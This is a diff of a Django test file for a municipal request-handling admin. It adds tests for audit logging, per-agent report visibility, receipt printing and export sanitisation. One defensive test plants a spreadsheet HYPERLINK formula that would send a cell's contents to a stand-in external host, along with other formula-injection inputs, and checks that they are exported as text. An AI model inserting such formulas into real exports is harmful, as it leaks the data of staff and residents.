@@ -2,6 +2,7 @@
 
 import csv
 import io
+from decimal import Decimal
 
 import openpyxl
 import pytest
@@ -10,10 +11,9 @@ from django.contrib.auth.models import Group, Permission
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.test import Client
 
-from wagtail.models import ModelLogEntry
-
-from demandes.models import Agent, Channel, Demande
+from demandes.models import Agent, Channel, Demande, DemandeLogEntry
 from demandes.procedures import FTU, PIC, Status
+from demandes.wagtail_hooks import as_text_in_spreadsheet
 from home.models import ContactPoint, Quartier
 from tests.demandes.conftest import PNG, field_name, ftu_answers, pic_answers
 from tests.utils import page_text
@@ -108,14 +108,70 @@ def test_the_inbox_filters_searches_and_exports_the_filtered_list(admin_client, 
     assert sorted(references) == sorted(demande.reference for demande in demandes)
 
 
+def exported_rows(client, export_format):
+    """The rows of the inbox's export, as a spreadsheet program reads them (headings first)."""
+    content = b"".join(client.get(f"/admin/demandes_recues/?export={export_format}").streaming_content)
+    if export_format == "csv":
+        return list(csv.reader(io.StringIO(content.decode())))
+    return list(openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True))
+
+
+@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
+def test_the_export_hands_no_formula_to_a_spreadsheet_program(admin_client, demandes, export_format):
+    """Names typed in the admin (and, later, by residents) reach the export: a formula there would run
+    when staff open the file, so it is written as text."""
+    pic, _ftu = demandes
+    formula = '=HYPERLINK("https://exemple.test/?d="&A2;"Ouvrir")'
+    ContactPoint.objects.filter(pk=pic.contact_point_id).update(name=formula)
+    headings, *rows = exported_rows(admin_client, export_format)
+    column = headings.index("Lieu qui traite la demande")
+    row = next(row for row in rows if row[0] == pic.reference)
+    assert row[column] == "'" + formula
+
+
+@pytest.mark.parametrize(
+    ("value", "exported"),
+    [
+        ("=1+2", "'=1+2"),
+        ("+33 6 12 34 56 78", "'+33 6 12 34 56 78"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
+        ("\t=1+2", "'\t=1+2"),
+        ("\r=1+2", "'\r=1+2"),
+        ("Clémenceau – Kiener", "Clémenceau – Kiener"),
+        ("PIC-2026-0001", "PIC-2026-0001"),
+        (Decimal("-10"), Decimal("-10")),
+    ],
+)
+def test_a_text_that_a_spreadsheet_would_read_as_a_formula_is_exported_as_text(value, exported):
+    assert as_text_in_spreadsheet(value) == exported
+
+
 def test_opening_a_demande_shows_everything_and_is_recorded_in_the_audit_log(agent_oliveaux, demandes):
     pic, _ftu = demandes
     user, client = agent_oliveaux
     text = page_text(client.get(f"/admin/demande/{pic.pk}/"))
     for shown in ("Repas partagé des voisins", "Fatima Benali et Jérôme Dupont", "photo.png", "Reçue", "850"):
         assert shown in text
-    entry = ModelLogEntry.objects.for_instance(pic).get(action="demandes.consultation")
+    entry = DemandeLogEntry.objects.for_instance(pic).get(action="demandes.consultation")
     assert entry.user == user
+
+
+def test_the_site_history_report_shows_an_agent_only_the_demandes_of_their_contact_points(
+    agent_oliveaux, demandes, django_user_model, admin_client
+):
+    pic, ftu = demandes
+    _user, client = agent_oliveaux
+    kiener = make_user(django_user_model, "agent-kiener", ["Maison du projet"], [ftu.contact_point])[1]
+    kiener.get(f"/admin/demande/{ftu.pk}/")
+    kiener.get(f"/admin/demande/{ftu.pk}/donnees/")
+    client.get(f"/admin/demande/{pic.pk}/")
+    report = page_text(client.get("/admin/reports/site-history/"))
+    exported = b"".join(client.get("/admin/reports/site-history/?export=csv").streaming_content).decode()
+    for shown in (report, exported):
+        assert pic.reference in shown and ftu.reference not in shown
+        assert "agent-kiener" not in shown  # not even among the report's filters
+    assert all(demande.reference in page_text(admin_client.get("/admin/reports/site-history/")) for demande in demandes)
 
 
 def test_attachments_download_for_authorised_staff_only_and_each_download_is_logged(
@@ -126,9 +182,9 @@ def test_attachments_download_for_authorised_staff_only_and_each_download_is_log
     url = f"/admin/demande/{pic.pk}/pieces/{piece.pk}/"
     response = agent_oliveaux[1].get(url)
     assert response.status_code == 200
-    assert b"".join(response.streaming_content) == PNG
+    assert b"".join(response.streaming_content) == piece.file.read()
     assert 'attachment; filename="photo.png"' in response["Content-Disposition"]
-    assert ModelLogEntry.objects.for_instance(pic).filter(action="demandes.telechargement").count() == 1
+    assert DemandeLogEntry.objects.for_instance(pic).filter(action="demandes.telechargement").count() == 1
     assert Client().get(url).status_code == 302  # to the login page
     other = make_user(django_user_model, "autre", ["Maison du projet"], [])[1]
     assert other.get(url, follow=True).status_code == 404
@@ -207,6 +263,20 @@ def test_staff_at_a_point_relais_enter_a_demande_for_a_resident_and_print_a_rece
     receipt = page_text(client.get(f"/admin/demande/{demande.pk}/recepisse/"))
     assert demande.reference in receipt
     assert "Au point relais ou à la Maison du projet, avec un agent" in receipt
+
+
+def test_the_agent_who_entered_a_demande_prints_its_receipt_when_the_contact_point_has_several_agents(
+    agent_oliveaux, pic_form, django_user_model
+):
+    user, client = agent_oliveaux
+    make_user(django_user_model, "collegue", ["Maison du projet"], user.agent.contact_points.all())
+    data = pic_answers(pic_form)
+    data.update(canal=Channel.POINT_RELAIS, accord_oral="on")
+    assert client.post(pic_form.url, data).status_code == 302
+    demande = Demande.objects.get(entered_by=user)
+    response = client.get(f"/admin/demande/{demande.pk}/recepisse/")
+    assert response.status_code == 200
+    assert demande.reference in page_text(response)
 
 
 def test_the_inbox_costs_the_same_queries_for_two_demandes_or_seven(admin_client, demandes, client, pic_form):
